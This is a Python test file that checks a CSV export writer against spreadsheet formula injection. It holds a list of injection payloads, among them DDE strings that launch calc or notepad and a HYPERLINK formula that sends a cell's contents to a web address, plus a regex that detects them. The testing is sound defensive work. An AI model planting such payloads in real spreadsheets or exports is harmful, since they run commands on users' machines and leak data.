"""No cell of a file for spreadsheets is run as a formula, and every one of them comes back as it was.

The judge here knows nothing of how cells are guarded: it follows what spreadsheets document and do when they open a CSV
file. Excel and LibreOffice run a cell that begins with = + - @ (and LibreOffice and Sheets skip white space before it);
East-Asian versions take the full-width signs for the same; DDE is `=program|'arguments'!cell`, also behind + - @.
"""

from __future__ import annotations

import csv
import random
import re
import unicodedata

import pytest

from mimcore.capture import read_csv
from mimcore.capture.exporting.columns import ExportColumn
from mimcore.capture.exporting.writing import write_rows

SIGNS = "=+-@"
SKIPPED = {"\t", "\r", "\n", "\0", "\ufeff", "\u200b", "\u200c", "\u200d", "\u2060"}
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
DDE = re.compile(r"\s*[=+\-@].*\|.*!")
ALPHABET = [
    *"=+-@\t\r\n'\"|!,;:() aZ5åß",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u3000",
]
PAYLOADS = (
    "=cmd|'/C calc'!A0", "+cmd|' /C notepad'!'A1'", "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")', '=IMPORTXML(CONCAT(A1:B2),"//a")', "\t=1+1", "\r=1+1", "\n@x",
    "＝1+1", "＠SUM(A1)", " \u00a0=1+1", "'=1+1", "''=1+1", "\ufeff=1+1", '"=1+1"', "=1+1", "%0A=1+1", "=\u200b1",
)  # fmt: skip


def is_formula(cell: str) -> bool:
    """Tell whether some spreadsheet would run a cell; a plain number is none."""
    if NUMBER.fullmatch(cell):
        return False
    if cell[:1] in {"\t", "\r", "\n", "\0"} or DDE.match(cell):
        return True
    rest = cell.lstrip()
    while rest and (rest[0] in SKIPPED or rest[0].isspace()):
        rest = rest[1:]
    return bool(rest) and unicodedata.normalize("NFKC", rest[0]) in set(SIGNS)


@pytest.mark.parametrize("cell", PAYLOADS[:14])
def test_the_judge_is_not_blind(cell: str) -> None:
    """It calls the well-known attacks formulas, unless a quote stands before them."""
    assert is_formula(cell) is not cell.startswith("'")


def test_ten_thousand_cells_are_no_formulas_and_come_back(tmp_path) -> None:
    """Generated and well-known hostile cells, among numbers, through the writer of exports and back."""
    draw = random.Random(20260301)
    texts = [[_cell(draw) for _ in range(10)] for _ in range(1_000)]
    columns = [ExportColumn(f"column {place}", "text", lambda *_: None) for place in range(11)]
    rows = [[*row, draw.randrange(-99, 99)] for row in texts]
    done = write_rows(tmp_path / "cells.csv", columns, [rows[:400], rows[400:]])
    assert done.rows == 1_000
    with done.path.open(encoding="utf-8-sig", newline="") as file:
        shown = list(csv.reader(file))[1:]
    assert [cell for row in shown for cell in row if is_formula(cell)] == []
    assert sum(is_formula(cell) for row in texts for cell in row) > 3_000
    back = [list(row.values) for row in read_csv(done.path, unguards=True)]
    assert back == [[*map(str, row)] for row in rows]


def test_headings_are_no_formulas(tmp_path) -> None:
    """A custom attribute cannot be named so, but a writer does not rely on it."""
    done = write_rows(tmp_path / "a.csv", [ExportColumn("=1+1", "text", lambda *_: None)], [])
    assert done.path.read_text("utf-8-sig") == '"\'=1+1"\n'


def _cell(draw: random.Random) -> str:
    if draw.random() < 0.2:
        return draw.choice(PAYLOADS) + draw.choice(["", "x", ";=1", '"'])
    return "".join(draw.choices(ALPHABET, k=draw.randrange(10)))
